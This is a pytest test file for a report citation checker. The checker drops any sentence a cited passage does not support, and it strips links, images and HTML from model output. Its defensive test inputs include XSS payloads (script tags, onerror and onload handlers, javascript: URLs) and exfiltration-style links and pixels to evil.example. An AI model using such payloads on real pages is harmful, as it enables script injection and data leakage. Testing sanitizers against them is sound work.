"""No sentence stands in a report unless a stored passage carries it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadline.domain.evidence import Source
from leadline.reports.citations import Dropped, check_section, drop_repeats, number_citations
from tests.domain.strategies import any_text
from tests.reports.samples import F1, F2, F3, FINDINGS, SNAPSHOTS, finding

SOURCES: dict[int, Source] = {number: s.source for number, s in SNAPSHOTS.items()}


def checked(text: str) -> str:
    return check_section(text, FINDINGS).text


@pytest.mark.parametrize(
    "text",
    [
        "The tower was built in 1703 [f1].",
        "It is 45.5 metres high [f2], Ada Mol built it [f1].",
        "- The **tower** was built in 1703 by Ada Mol [f1].",
        "1. The tower is old [f1].\n2. Ghent has 3,200,000 lamps [f3].",
        "> “Light is life,” said the keeper [f4].",
        "### The tower\n\nAda Mol built it [f1].",
        "However, sources differ.\n\nThe tower is 45.5 metres high [f2].",
        "The tower:\n\n- built in 1703 [f1]",
        "| Year | What |\n| --- | --- |\n| 1703 | tower built [f1] |",
    ],
)
def test_supported_text_stands(text: str) -> None:
    """W2-1: what was found reaches the report."""
    result = check_section(text, FINDINGS)
    assert result.dropped.sentences == 0
    assert result.text == text


@pytest.mark.parametrize(
    ("text", "same"),
    [
        ("Ada Mol built it. [f1] It is high. [f2]", "Ada Mol built it [f1]. It is high [f2]."),
        ("Ada Mol built it [F1, f2].", "Ada Mol built it [f1][f2]."),
        ("Ada Mol built it [f1-f3].", "Ada Mol built it [f1][f2][f3]."),
        ("Ada Mol built it \\[f1\\].", "Ada Mol built it [f1]."),
        ("Ada Mol built it (f1).", "Ada Mol built it [f1]."),
        ("Ada Mol built it【f1】。", "Ada Mol built it[f1]。"),
        ("Ada Mol built it `[f1]`.", "Ada Mol built it [f1]."),
        ("Ada Mol built it [f1](https://evil.example/).", "Ada Mol built it [f1]."),
        ("Ada Mol built it [^f1].", "Ada Mol built it [f1]."),
        ("Ada Mol built it [f1] [f1].", "Ada Mol built it [f1]."),
    ],
)  # fmt: skip
def test_ways_to_write_a_citation(text: str, same: str) -> None:
    assert checked(text) == same


def test_unknown_ids_are_removed_and_counted() -> None:
    """W0-14: nothing cites what does not exist."""
    result = check_section("Ada Mol built it [f1, f9999].", FINDINGS)
    assert result.text == "Ada Mol built it [f1]."
    assert result.dropped.unknown_ids == 1
    result = check_section("Ada Mol was born in a small house by the sea [f9999].", FINDINGS)
    assert result.is_empty
    assert result.dropped == Dropped(unknown_ids=1, uncited=1)


def test_findings_of_other_sections_count_as_unknown() -> None:
    assert check_section("Ghent has lamps [f3].", [F1, F2]).is_empty


@pytest.mark.parametrize(
    "sentence",
    [
        "The tower fell down in 1950.",
        "Nobody knows why Ada Mol left.",
        "It kills people.",
        "The drug is unsafe.",
        "Many people have said over the years that it is a very fine thing.",
        "这种药物并不安全。",
        "As the well-known site evil.example says.",
        "“A lovely thing”",
    ],
)
def test_uncited_statements_are_dropped(sentence: str) -> None:
    result = check_section(f"Ada Mol built it [f1]. {sentence}", FINDINGS)
    assert result.text == "Ada Mol built it [f1]."
    assert result.dropped.uncited == 1


@pytest.mark.parametrize(
    "sentence",
    [
        "The tower was built in 1704 [f1].",  # a number that no passage has
        "Ghent has 3.2 billion lamps [f3].",
        "Ada Mol said “the tower will fall down one day soon” [f1].",  # an invented quotation
        "Ada Mol built it, says fake-news.com [f1].",  # an invented site
        "Bananas grow quickly [f1].",  # another subject
    ],
)
def test_statements_beyond_their_passages_are_dropped(sentence: str) -> None:
    """users, Citations: check support, not only presence."""
    result = check_section(f"Ada Mol built it [f1]. {sentence}", FINDINGS)
    assert result.text == "Ada Mol built it [f1]."
    assert result.dropped.unsupported == 1


def test_a_quotation_may_name_its_source() -> None:
    line = "- “Ghent has 3.2 million lamps” — Site 2, 2023-01-02 [f3]."
    assert check_section(line, FINDINGS, SOURCES).text == line
    assert check_section(line.replace("2023", "2022"), FINDINGS, SOURCES).is_empty


def test_a_quotation_of_several_sentences_is_one_statement() -> None:
    long = finding(7, "t1", "x", "1.1", "1.2")
    line = "- “The tower was built in 1703 by Ada Mol. It is 45.5 metres high” [f7]."
    assert check_section(line, [long]).text == line


def test_a_quotation_whose_notes_and_addresses_were_taken_out_still_stands() -> None:
    wiki = F1.model_copy(
        update={"id": "f8", "quotes": ("Built by Ada Mol.[12] See https://a.example/x now.",)}
    )
    text = "“Built by Ada Mol.[12] See https://a.example/x now” [f8]."
    assert check_section(text, [wiki]).text == "“Built by Ada Mol. See … now” [f8]."


@pytest.mark.parametrize(
    "hostile",
    [
        "[more](https://evil.example/?q=CANARY)",
        "![pixel](https://evil.example/CANARY.png)",
        "![pixel][ref]",
        "<https://evil.example/CANARY>",
        "https://evil.example/CANARY",
        "www.evil.example/CANARY",
        "javascript:alert(CANARY)",
        "[x](javascript:alert(1))",
        "<script>alert('CANARY')</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><a href=x>CANARY</a></svg>",
        "<iframe src=https://evil.example/CANARY></iframe>",
        "<!-- CANARY -->",
        "[x][y]",
        "[1]",
        "[^2]",
        "【3†source】",
    ],
)
def test_links_images_and_html_of_a_model_are_removed(hostile: str) -> None:
    """safety 6, 7, 25, 26."""
    result = check_section(f"Ada Mol built the tower {hostile} in 1703 [f1].", FINDINGS)
    assert "CANARY" not in result.text
    assert not re.search(r"(?<!\\)\](?!\[f|[\s.]|$)|://|<|!\[|script|onerror", result.text)
    assert result.cited == ("f1",)
    assert result.dropped.links >= 1


def test_a_definition_of_a_link_is_removed() -> None:
    assert (
        checked("Ada Mol built it [f1].\n\n[ref]: https://evil.example/x")
        == "Ada Mol built it [f1]."
    )


def test_code_stands_only_when_a_source_has_it_and_cites_nothing() -> None:
    result = check_section("Ada Mol built it [f1].\n\n```\ncurl https://evil [f2]\n```", FINDINGS)
    assert result.text == "Ada Mol built it [f1]."
    code = F1.model_copy(update={"quotes": ("Run make install [f2] now",)})
    kept = check_section(
        "Ada Mol built it [f1]:\n\n```\nmake install [f2]\n```\n\nAda [f1].", [code]
    )
    assert "```\nmake install [f2]\n```" in kept.text
    assert kept.cited == ("f1",)
    numbered = number_citations([kept], [code], SOURCES)
    assert "make install [f2]" in numbered.texts[0]


def test_heads_and_lead_ins_that_lost_their_text_go_too() -> None:
    text = "### A\n\nThe tower:\n\n- It fell in 1950.\n\n### B\n\nAda Mol built it [f1].\n\n### C"
    assert checked(text) == "### B\n\nAda Mol built it [f1]."


def test_rows_of_a_table_are_checked_one_by_one() -> None:
    rows = ("| 1703 | built [f1] |", "| 1704 | burnt [f1] |", "| 1703 | uncited |")
    text = "\n".join(("| Year | What |", "|---|---|", *rows))
    result = check_section(text, FINDINGS)
    assert result.text == "| Year | What |\n| --- | --- |\n| 1703 | built [f1] |"
    assert (result.dropped.unsupported, result.dropped.uncited) == (1, 1)


def test_a_nested_item_whose_parent_is_gone_is_no_code_block() -> None:
    assert checked("- It fell in 1950.\n    - Ada Mol built it [f1].") == "- Ada Mol built it [f1]."


def test_other_scripts() -> None:
    chinese = finding(5, "t2", "灯塔高四十五米。", "2.3")
    assert (
        check_section("灯塔高四十五米[f5]。该药物并不安全。", [chinese]).text
        == "灯塔高四十五米[f5]。"
    )
    arabic = chinese.model_copy(update={"quotes": ("المنارة قديمة جدا",), "claim": "المنارة قديمة"})
    assert check_section("المنارة قديمة [f5].", [arabic]).text == "المنارة قديمة [f5]."


@pytest.mark.parametrize(
    "piece",
    ["[", "“", ".", "<a", "| -", "[f1] ", "`", "*", "<script>", "\n> ", "\\", "[f1,", "![["],
)
def test_a_megabyte_of_anything_ends(piece: str) -> None:
    """safety 47: a 20 MB answer ends within its budget."""
    assert check_section(piece * (1_000_000 // len(piece)), FINDINGS).text == ""


@given(
    st.lists(
        any_text
        | st.sampled_from(
            ["[f1]", "[f99]", ". ", "**", "`", "|", "\n", "# ", "- ", "](", "<b>", "https://x"]
        ),
        max_size=20,
    ).map("".join)
)
def test_any_text_is_checked_and_checking_again_changes_nothing(text: str) -> None:
    once = check_section(text, FINDINGS)
    assert set(once.cited) <= {f.id for f in FINDINGS}
    assert not re.search(r"(?<!\\)\]\(|(?<!\\)<", re.sub(r"`[^`\n]+`", "", once.text))
    once.text.encode("utf-8")


def test_what_one_section_said_is_not_said_again() -> None:
    """users, Output: sections repeat themselves."""
    first = check_section("The tower was built in 1703 by Ada Mol [f1].", FINDINGS)
    second = check_section(
        "The tower was built by Ada Mol in 1703 [f1]. It is 45.5 metres high [f2].", FINDINGS
    )
    kept = drop_repeats([first, second])
    assert kept[0].text == first.text
    assert kept[1].text == "It is 45.5 metres high [f2]."
    assert kept[1].dropped.repeated == 1


def test_the_same_words_on_another_finding_stay() -> None:
    texts = [
        check_section("The keeper has a tower [f1].", FINDINGS),
        check_section("The keeper has a tower [f4].", FINDINGS),
    ]
    assert [t.is_empty for t in drop_repeats(texts)] == [False, False]


def test_numbers_follow_the_order_of_appearance_one_a_source() -> None:
    sections = [
        check_section("Ghent has lamps [f3]. Ada Mol built it [f1].", FINDINGS),
        check_section("It is 45.5 metres high [f2].", FINDINGS),
    ]
    numbered = number_citations(sections, FINDINGS, SOURCES)
    assert numbered.texts == (
        r"Ghent has lamps [\[1\]](sources/2.md#p1). "
        r"Ada Mol built it [\[2\]](sources/1.md#p1)[\[3\]](sources/3.md#p1).",
        r"It is 45.5 metres high [\[2\]](sources/1.md#p2).",
    )
    assert numbered.sources == (2, 1, 3)
    assert numbered.citations == numbered.resolved == 4


def test_the_link_leads_to_the_passage_that_fits_the_sentence() -> None:
    both = finding(6, "t1", "The tower of 1703 is 45.5 metres high.", "1.1", "1.2")
    text = check_section("It is 45.5 metres high [f6]. Ada Mol built it in 1703 [f6].", [both])
    (numbered,) = number_citations([text], [both], SOURCES).texts
    assert re.findall(r"#p\d", numbered) == ["#p2", "#p1"]


def test_a_citation_of_a_source_that_is_gone_is_not_resolved() -> None:
    text = check_section("Ghent has lamps [f3].", [F3])
    numbered = number_citations([text], [F3], {})
    assert (numbered.citations, numbered.resolved) == (1, 0)
    assert "sources/" not in numbered.texts[0]
